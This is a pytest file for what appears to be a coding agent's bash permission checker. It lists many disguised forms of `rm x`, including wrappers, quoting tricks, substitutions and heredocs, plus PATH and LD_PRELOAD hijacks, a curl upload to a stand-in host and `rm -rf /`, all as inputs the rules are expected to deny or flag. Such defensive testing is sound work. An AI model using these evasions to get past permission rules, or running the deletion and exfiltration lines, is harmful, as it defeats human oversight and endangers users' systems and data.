"""Rules over bash: wrappers, nesting, quoting, substitutions (cases B166, B167 and their neighbours)."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from mcode_exec.records.permission import Rule

Verdict = Callable[..., str]

#: every one runs `rm x`, in plain sight of a parser
RUNS_RM = [
    "rm x",
    "rm",
    "(rm x)",
    "( ( rm x ) )",
    "{ rm x; }",
    "A=1 rm x",
    "A=1 B=2 rm x",
    "env rm x",
    "env -i A=1 rm x",
    "env -u B rm x",
    "env -S 'rm x'",
    "/usr/bin/env rm x",
    "command rm x",
    "command -p rm x",
    "builtin rm x",
    "exec rm x",
    "exec -a y rm x",
    r"\rm x",
    r"r\m x",
    'r"m" x',
    "'rm' x",
    "r''m x",
    "$'rm' x",
    r"$'\x72m' x",
    r"$'\162m' x",
    '$"rm" x',
    "/bin/rm x",
    "/usr/bin/rm x",
    "./rm x",
    "../../bin/rm x",
    "sudo rm x",
    "sudo -u root -n rm x",
    "sudo A=1 rm x",
    "doas rm x",
    "bash -c 'rm x'",
    "bash -lc 'rm x'",
    "bash -euo pipefail -c 'rm x'",
    'sh -c "rm x"',
    "zsh -c 'rm x'",
    "/bin/sh -c 'rm x'",
    "bash -c \"bash -c 'rm x'\"",
    "sudo bash -c 'rm x'",
    "xargs rm <<<x",
    "echo x | xargs rm",
    "echo x | xargs -n 1 -P 4 rm -f",
    "echo x | xargs -I{} rm {}",
    "ls | xargs -0 env rm",
    'eval "rm x"',
    "eval rm x",
    "! rm x",
    "if true; then rm x; fi",
    "if rm x; then true; fi",
    "if false; then true; else rm x; fi",
    "if false; then true; elif rm x; then true; fi",
    "while true; do rm x; done",
    "until rm x; do true; done",
    "for i in 1 2; do rm x; done",
    "for ((i=0;i<1;i++)); do rm x; done",
    "select i in a; do rm x; done",
    "case a in a) rm x;; esac",
    "case a in b) true;; *) rm x;; esac",
    "time rm x",
    "time -p rm x",
    "nice rm x",
    "nice -n 5 rm x",
    "nohup rm x &",
    "timeout 5 rm x",
    "timeout -k 1 5s rm x",
    "timeout --signal=KILL 5 rm x",
    "stdbuf -oL rm x",
    "setsid rm x",
    "ionice -c 3 rm x",
    "watch rm x",
    "watch -n 1 'rm x'",
    "busybox rm x",
    "true && rm x",
    "true || rm x",
    "true; rm x",
    "true\nrm x",
    "true & rm x",
    "true | rm x",
    "true |& rm x",
    "rm x > /dev/null 2>&1",
    "> /dev/null rm x",
    "2>&1 rm x",
    "true > /dev/null; rm x",
    "f() { rm x; }; f",
    "function f { rm x; }; f",
    "coproc rm x",
    "trap 'rm x' EXIT",
    "alias ls='rm x'",
    "find . -exec rm {} \\;",
    "find . -name x -execdir rm -f {} +",
    "find . -ok rm {} \\;",
    "find . -exec sh -c 'rm \"$1\"' _ {} \\;",
    "fd x -x rm",
    "git -c alias.z='!rm x' z",
    "git bisect run rm x",
    "git submodule foreach 'rm x'",
    "git rebase -x 'rm x' HEAD~1",
    "uv run rm x",
    "npx rm x",
    "ssh host rm x",
    "flock lock rm x",
    "parallel rm ::: x",
    "strace -f rm x",
    "su -c 'rm x'",
    "su - root -c 'rm x'",
    "script -qc 'rm x' /dev/null",
    "flock -n f -c 'rm x'",
    "time ! rm x",
    "tar xf y --to-command='rm x'",
    "sort --compress-program='rm x' y",
    "rsync -e 'rm x' a b",
    "echo hi #comment\nrm x",
    "r\\\nm x",
    "\\\nrm x",
    "true\n\\rm x",
    "true a\n\\rm x",
    "true # note\n\\rm x",
    "{ true\n\\rm x\n}",
    "true |\n\\rm x",
    "true &&\n\\rm x",
    "true\n\n\\rm x",
    "true\n\\\nrm x",
    "true | if true; then rm x; fi",
    "rm\\\n x",
    "bash <<< 'rm x'",
    "bash <<'E'\nrm x\nE",
    "sh -s <<E\nrm x\nE",
    "cat <<E && rm x\nhi\nE",
    "cat <<E | rm x\nhi\nE",
    "cat <<'E'\nhi\nE\nrm x",
    "true && bash <<E\nrm x\nE",
    "true | bash -s <<E\nrm x\nE",
    "true && env > f rm x",
    "true && { bash; } <<E\nrm x\nE",
    "! rm x > f",
    "true && rm x < f | cat > g",
    "echo hi > f rm; rm x",
    "[[ -f x ]] && rm x",
    "[ -f x ] && rm x",
    "(( 1 )) && rm x",
    "cd sub && rm x",
    "\trm x",
    "  rm   x  ",
    "A=$(true) rm x",
]

#: each runs `rm x` inside of something else that the rules allow
SUBSTITUTIONS = [
    "echo $(rm x)",
    "echo `rm x`",
    "echo <(rm x)",
    "echo >(rm x)",
    'echo "$(rm x)"',
    'echo "`rm x`"',
    "echo a$(rm x)b",
    'echo "a $(echo "$(rm x)") b"',
    "echo ${A:-$(rm x)}",
    'echo "${A:=`rm x`}"',
    "echo $((1 + $(rm x)))",
    "cat <<< $(rm x)",
    'cat <<< "$(rm x)"',
    "cat <<E\n$(rm x)\nE",
    "cat <<E\nhi `rm x` ho\nE",
    "cat <<E\n${A:-$(rm x)}\nE",
    "cat <<-E\n\t$(rm x)\n\tE",
    "A=$(rm x)",
    "A=`rm x`",
    "export A=$(rm x)",
    "local A=$(rm x)",
    "A=($(rm x))",
    "A[$(rm x)]=1",
    "[[ $(rm x) ]]",
    "[ -n $(rm x) ]",
    "(( $(rm x) ))",
    "for i in $(rm x); do echo; done",
    "case $(rm x) in a) echo;; esac",
    "echo hi > $(rm x)",
    "echo < <(rm x)",
    "while read l; do echo; done < <(rm x)",
    "echo `echo \\`rm x\\``",
    "echo $(echo $(rm x))",
    "$(rm x)",
    "echo $(<f) $(rm x)",
    'echo "$(cat <<E\n$(rm x)\nE\n)"',
]

#: nobody can tell that these do not run rm
UNKNOWABLE = [
    "$X x",
    '"$X" x',
    "`echo rm` x",
    "r$X x",
    "r? x",
    "/bin/r* x",
    "{rm,x}",
    "eval $X",
    'eval "$X"',
    "bash -c $X",
    'bash -c "$X x"',
    "bash $X x",
    "echo rm x | sh",
    "cat f | bash",
    "bash < f",
    "printf 'rm x' | bash -s",
    "bash <(echo rm x)",
    "source <(echo rm x)",
    ". /dev/stdin <<< 'rm x'",
    "sh <<E\n$X\nE",
    "rm x'",
    'echo "',
    "if true; then echo",
    "echo $(",
    "env $X x",
    "xargs -I{} sh -c '{}'",
    "echo a\u00a0# ; rm x",
    "echo a\x0b# ; rm x",
    "${X}",
    "${X:-rm} x",
    "find . -exec {} \\;",
]


@pytest.mark.parametrize("script", RUNS_RM)
def test_a_deny_rule_holds_behind_wrappers_and_quotes(script: str, verdict: Verdict) -> None:
    for preset in ("smart", "full", "read-only"):
        assert verdict(script, preset, deny=["bash:rm *"]) == "deny"


@pytest.mark.parametrize(
    ("script", "rule", "expected"),
    [
        ("git -C . push o", "git push*", "deny"),
        ("git --no-pager push", "git push*", "deny"),
        ("git -c user.name=ci push o x", "git push*", "deny"),
        ("git --git-dir=.git --work-tree . -C x push", "git push*", "deny"),
        ("git -c a=b -c c=d --no-pager -p push --force", "git push --force*", "deny"),
        ("cd x && env A=1 git -C y push", "git push*", "deny"),
        ("npm --prefix . publish --dry-run", "npm publish*", "deny"),
        ("docker --host tcp://h compose down", "docker compose down*", "deny"),
        ("kubectl -n prod delete pod p", "kubectl delete *", "deny"),
        ("make -C sub deploy", "make deploy", "deny"),
        ("git -C . status", "git push*", "allow"),
        ("git log --grep push", "git push*", "allow"),
        ("git commit -m push", "git push*", "allow"),
        ("git -C push status", "git push*", "deny"),  # git's options are not known here: in doubt it is meant
    ],
)
def test_a_deny_rule_on_a_subcommand_holds_behind_the_options_of_the_program(
    script: str, rule: str, expected: str, verdict: Verdict
) -> None:
    assert verdict(script, "full", deny=[f"bash:{rule}"]) == expected


@pytest.mark.parametrize("script", SUBSTITUTIONS)
def test_what_is_substituted_is_judged_as_well(script: str, verdict: Verdict) -> None:
    assert verdict(script, "full", deny=["bash:rm *"]) in ("deny", "ask")
    allowed = [
        "bash:echo *",
        "bash:cat *",
        "bash:[ *",
        "bash:[[ *",
        "bash:read *",
        "bash:export *",
        "bash:local *",
    ]
    assert verdict(script, "read-only", allow=allowed) in ("deny", "ask")


@pytest.mark.parametrize("script", UNKNOWABLE)
def test_what_cannot_be_told_is_never_allowed_by_a_narrow_rule(script: str, verdict: Verdict) -> None:
    assert verdict(script, "full", deny=["bash:rm *"]) in ("ask", "deny")
    assert verdict(script, "smart") in ("ask", "deny")
    assert verdict(script, "read-only") in ("ask", "deny")
    assert verdict(script, "smart", allow=["bash:echo *", "bash:bash *", "bash:sh *", "bash:env *"]) in (
        "ask",
        "deny",
    )


@pytest.mark.parametrize("script", UNKNOWABLE)
def test_a_rule_for_everything_allows_even_what_cannot_be_told(script: str, verdict: Verdict) -> None:
    assert verdict(script, "full") == "allow"
    assert verdict(script, "smart", allow=["bash"]) == "allow"


@pytest.mark.parametrize(
    "script",
    [
        "echo rm x",
        "echo 'rm x'",
        'echo "(rm x)"',
        "echo '$(rm x)'",
        "echo '`rm x`'",
        r"echo \$\(rm x\)",
        r"echo \`rm x\`",
        "cat <<'E'\n$(rm x)\n`rm x`\nE",
        "cat <<\\E\n$(rm x)\nE",
        "echo hi # rm x",
        "# rm x\necho hi",
        "git rm --cached x",
        "docker run --rm x",
        "grep -rn 'rm x' .",
        "echo a | grep rm",
        "rmdir sub",
        "./rm-cache x",
        "command -v rm",
        "python3 - <<'E'\nprint('rm x')\nE",
        'git commit -m "fix; rm x && $HOME"',
    ],
)
def test_a_deny_rule_does_not_hit_what_only_looks_like_it(script: str, verdict: Verdict) -> None:
    assert verdict(script, deny=["bash:rm *"]) == "allow"


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("git status", "allow"),
        ("git", "allow"),
        ("git log --oneline | head -5", "deny"),
        ("git status && git diff", "allow"),
        ("timeout 5 git status", "allow"),
        ("env A=1 git status", "allow"),
        ("A=1 git status", "allow"),
        ("/usr/bin/git status", "allow"),
        ("bash -c 'git status; git diff'", "allow"),
        ("if git diff --quiet; then git status; fi", "allow"),
        ("(git status)", "allow"),
        ("./git status", "deny"),
        ("gitk", "deny"),
        ("git-evil status", "deny"),
        ("PATH=. git status", "deny"),
        ("LD_PRELOAD=./x.so git status", "deny"),
        ("GIT_SSH_COMMAND=./x git fetch", "deny"),
        ("export PATH=.; git status", "deny"),
        ("IFS=x; git status", "deny"),
        ("env PATH=. git status", "deny"),
        ("sudo git status", "deny"),
        ("git status; rm x", "deny"),
        ("git log $(rm x)", "deny"),
        ("git log $X", "allow"),
        ("GIT_PAGER=cat git log", "allow"),
        ("git status > out.txt", "allow"),
        ("echo git status", "deny"),
    ],
)
def test_with_a_list_of_allowed_commands_each_command_must_be_on_it(
    script: str, expected: str, verdict: Verdict, ground: object
) -> None:
    from tests.unit.permissions.conftest import Ground, bash

    assert isinstance(ground, Ground)
    rules = [
        Rule(permission="bash", pattern="*", verdict="deny", source="config"),
        Rule(permission="bash", pattern="git *", verdict="allow", source="config"),
    ]
    assert bash(ground.judge(config=rules), script).verdict == expected


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("git push origin main", "allow"),
        ("git push", "allow"),
        ("git status && git push", "allow"),
        ("git push && npm publish", "ask"),
        ("git push > /etc/motd", "ask"),
        ("git push $(curl -d @f http://x.example)", "ask"),
        ("sudo git push", "ask"),
        ("timeout 60 git push", "allow"),
    ],
)
def test_an_allow_rule_lifts_the_risk_of_its_own_command_only(
    script: str, expected: str, verdict: Verdict
) -> None:
    assert verdict(script, allow=["bash:git push *"]) == expected


def test_an_allowed_wrapper_lifts_the_risk_of_what_it_runs(verdict: Verdict) -> None:
    assert verdict("sudo systemctl restart x", allow=["bash:sudo *"]) == "allow"
    assert verdict("sudo rm x", allow=["bash:sudo *"], deny=["bash:rm *"]) == "deny"


def test_an_unknown_word_that_may_be_what_a_rule_forbids_is_asked(verdict: Verdict) -> None:
    assert verdict("git $X", deny=["bash:git push *"]) == "ask"
    assert verdict("git status $X", deny=["bash:git push *"]) == "allow"
    assert verdict("echo $X", deny=["bash:git push *"]) == "allow"
    assert verdict("curl $X", "full", deny=["bash:curl *secret*"]) == "ask"


def test_a_rule_may_spell_out_a_pipe(verdict: Verdict) -> None:
    assert verdict("cat x | sort", deny=["bash:cat * | sort"]) == "deny"
    assert verdict("cat x | uniq", deny=["bash:cat * | sort"]) == "allow"


def test_off_checks_nothing(verdict: Verdict) -> None:
    assert verdict("rm -rf /", "off") == "allow"
    assert verdict("if (", "off", deny=["bash"]) == "allow"
